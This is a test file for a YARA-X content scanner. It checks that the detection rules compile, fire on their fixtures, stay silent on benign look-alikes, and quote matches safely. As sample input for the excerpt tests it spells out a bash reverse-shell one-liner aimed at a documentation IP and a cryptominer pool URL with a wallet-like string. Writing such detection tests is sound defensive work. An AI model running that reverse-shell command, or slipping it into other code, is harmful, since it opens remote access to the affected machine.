import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { describe, it } from 'node:test';
import { builtinRuleSources } from '../../intel/yara/builtin';
import { escapeBytes, excerptAt } from './excerpt';
import { compileYara, loadYara, loadYaraModule, makeScanner, RuleCompileError, type Scanner } from './scanner';

const FIXTURES = path.join(import.meta.dirname, '../../../test/fixtures/content');

function builtin(): Scanner {
  const s = makeScanner(builtinRuleSources());
  assert.notEqual(typeof s, 'string', String(s));
  return s as Scanner;
}

describe('content scanner (YARA-X)', async () => {
  await loadYara();
  const scanner = builtin();
  const ruleIds = [...builtinRuleSources()[0].source.matchAll(/^\s*id = "([^"]+)"/gm)].map((m) => m[1]);

  it('compiles the built-in rules and counts them', () => {
    assert.equal(scanner.engine, 'yara-x');
    assert.equal(scanner.ruleCount, ruleIds.length);
    assert.ok(scanner.ruleCount >= 11);
  });

  it('every built-in rule has a fixture where it fires and a benign look-alike', () => {
    for (const id of ruleIds) {
      const files = fs.readdirSync(path.join(FIXTURES, id));
      assert.ok(
        files.some((f) => f.startsWith('fires')),
        `${id}: no fires* fixture`,
      );
      assert.ok(
        files.some((f) => f.startsWith('benign')),
        `${id}: no benign* fixture`,
      );
    }
  });

  for (const dir of fs.readdirSync(FIXTURES).sort()) {
    for (const f of fs.readdirSync(path.join(FIXTURES, dir)).sort()) {
      const data = fs.readFileSync(path.join(FIXTURES, dir, f));
      if (f.startsWith('fires')) {
        it(`${dir} fires on ${f}`, () => {
          const hits = scanner.scan(data);
          assert.ok(
            hits.some((h) => h.meta.id === dir),
            `${dir}/${f}: got ${hits.map((h) => h.meta.id).join(', ') || 'nothing'}`,
          );
          const h = hits.find((x) => x.meta.id === dir);
          assert.ok(h && h.matches.length > 0);
          assert.match(h?.meta.severity ?? '', /^(critical|high|medium|low|info)$/);
          assert.match(h?.meta.attack ?? '', /^T\d{4}/);
          assert.ok(h?.meta.description && h.meta.zh);
        });
      } else {
        it(`${dir} stays silent on its look-alike ${f}`, () => {
          assert.deepEqual(
            scanner.scan(data).map((h) => h.meta.id),
            [],
          );
        });
      }
    }
  }

  it('names the file and line of a rule that does not compile', () => {
    const yara = loadYaraModule();
    assert.notEqual(typeof yara, 'string');
    if (typeof yara === 'string') return;
    const bad = { file: 'mine.yar', source: 'rule ok { condition: true }\n\nrule broken {\n  condition: $x\n}\n' };
    assert.throws(
      () => compileYara([bad], yara),
      (e: Error) => e instanceof RuleCompileError && /^mine\.yar:4:\d+: unknown pattern/.test(e.message),
    );
  });

  it('a user rule without metadata is reported under its rule name', () => {
    const yara = loadYaraModule();
    if (typeof yara === 'string') assert.fail(yara);
    const s = compileYara([{ file: 'u.yar', source: 'rule my_marker { strings: $a = "MARKER-42" condition: $a }' }], yara);
    assert.deepEqual(
      s.scan(Buffer.from('x MARKER-42 y')).map((h) => [h.meta.id, h.matches[0]?.offset]),
      [['my_marker', 2]],
    );
  });
});

describe('excerpt', () => {
  it('quotes the match with context on its line, escaping control bytes and non-ASCII', () => {
    const data = Buffer.concat([
      Buffer.from('line one\nxx \x1b[31mbash -i >& /dev/tcp/203.0.113.9/4444 0>&1'),
      Buffer.from([0xff]),
      Buffer.from('\nline three'),
    ]);
    const off = data.indexOf('bash');
    assert.equal(excerptAt(data, off, 32), 'xx \\x1b[31mbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\\xff');
  });

  it('cuts long lines on both sides with an ellipsis', () => {
    const data = Buffer.from(`${'a'.repeat(100)}stratum+tcp://pool.example.net:3333${'b'.repeat(100)}`);
    const ex = excerptAt(data, 100, 35, 10);
    assert.equal(ex, `…${'a'.repeat(10)}stratum+tcp://pool.example.net:3333${'b'.repeat(10)}…`);
  });

  it('starts at a word when one begins shortly before the context', () => {
    const data = Buffer.from('{ "url": "stratum+tcp://pool.example.net:3333", "user": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS" }');
    const off = data.indexOf('44AFF');
    assert.equal(excerptAt(data, off, 27, 30), '…"stratum+tcp://pool.example.net:3333", "user": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS" }');
  });

  it('escapes backslashes so an escape sequence in the file cannot pose as one of ours', () => {
    assert.equal(escapeBytes(Buffer.from('a\\x1b\tb')), 'a\\\\x1b\\tb');
  });
});
